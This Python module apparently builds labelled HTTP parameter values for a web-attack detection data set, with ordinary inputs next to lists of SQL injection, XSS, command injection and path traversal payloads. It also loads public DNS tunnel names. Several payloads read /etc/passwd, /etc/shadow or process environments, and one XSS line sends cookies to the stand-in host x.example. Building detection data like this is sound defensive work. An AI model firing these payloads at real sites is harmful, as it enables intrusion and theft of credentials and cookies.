"""Parameter values for forms and addresses: ordinary ones and hostile ones.

When the public sets in ../shared/data are at hand (see ml/dataset/README.md), their values widen the built-in ones.
Only the values are sent; no line of those sets reaches the data set's text from anywhere else.
"""

import gzip
import json
import os
from functools import cache
from pathlib import Path

SHARED = Path(os.environ.get("INSYT_SHARED", Path(__file__).resolve().parents[3] / "shared")) / "data/logs-permissive"

BUILT_IN = {
    "norm": ["summer tickets", "12", "red", "anna@mail.example", "2026-11-02", "O'Neil", "size=XL", "a & b", "10% off", "Straße 5",
             "select a gift", "union street", "where is it?", "drop-in hours", "../", "script writing course", "1 or 2 rooms", "<3",
             "terms; conditions", "cat food", "ping pong table", "order by phone", "C:\\Users\\anna", "hello, world!", "the who -- live"],
    "sqli": ["1 OR 1=1", "1' OR '1'='1", "1 UNION SELECT 1,2,3,4", "1; DROP TABLE products", "' OR 1=1-- -", "1 AND SLEEP(2)",
             "1' AND (SELECT COUNT(*) FROM sqlite_master)>0--", "-1 UNION ALL SELECT name,sql,1,2 FROM sqlite_master--",
             "1 ORDER BY 9--", "admin'--", "1) OR (1=1", "1%27%20or%20%271", "' UNION SELECT NULL,version(),NULL--",
             "1 AND 1=CAST((SELECT user()) AS int)", "1' AND extractvalue(1,concat(0x7e,database()))-- -"],
    "xss": ["<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "<svg/onload=confirm(1)>", "javascript:alert(document.cookie)",
            "<body onload=alert(1)>", "'-alert(1)-'", "<iframe src=javascript:alert(1)>", "<a href=# onmouseover=prompt(1)>x</a>",
            "\"><script>new Image().src='//x.example/?'+document.cookie</script>", "<details open ontoggle=alert(1)>"],
    "cmdi": ["127.0.0.1; id", "127.0.0.1 | cat /etc/passwd", "`whoami`", "$(uname -a)", "127.0.0.1 && ls -la", "|| ping -c 1 127.0.0.1",
             ";cat /etc/hosts", "127.0.0.1%0Aid", "| netstat -an", "a;sleep 1;b", "& dir", "127.0.0.1;wget http://127.0.0.1/a"],
    "path-traversal": ["../../../../etc/passwd", "....//....//etc/passwd", "/etc/shadow", "..%2f..%2f..%2fetc%2fhosts", "..\\..\\windows\\win.ini",
                       "php://filter/convert.base64-encode/resource=index.php", "file:///etc/passwd", "../../../../../var/log/auth.log",
                       "/proc/self/environ", "../../wp-config.php", "%2e%2e%2f%2e%2e%2fetc%2fgroup", "../../../../etc/passwd%00"],
}


@cache
def values(kind):
    """Parameter values of `kind`: norm, sqli, xss, cmdi or path-traversal."""
    found = list(BUILT_IN[kind])
    path = SHARED / "http-params.jsonl.gz"
    if path.exists():
        with gzip.open(path, "rt", encoding="utf-8") as lines:
            for line in lines:
                row = json.loads(line)
                if row["kind"] == kind:
                    found.append(row["value"])
    return found


@cache
def tunnel_names():
    """(ordinary names, tunnel names) of the public DNS set; empty lists where it is not at hand."""
    ordinary, tunnel = [], []
    path = SHARED / "dns-tunnel-names.jsonl.gz"
    if path.exists():
        with gzip.open(path, "rt", encoding="utf-8") as lines:
            for line in lines:
                row = json.loads(line)
                (tunnel if row["tunnel"] else ordinary).append(row["qname"].rstrip("."))
    return ordinary, tunnel
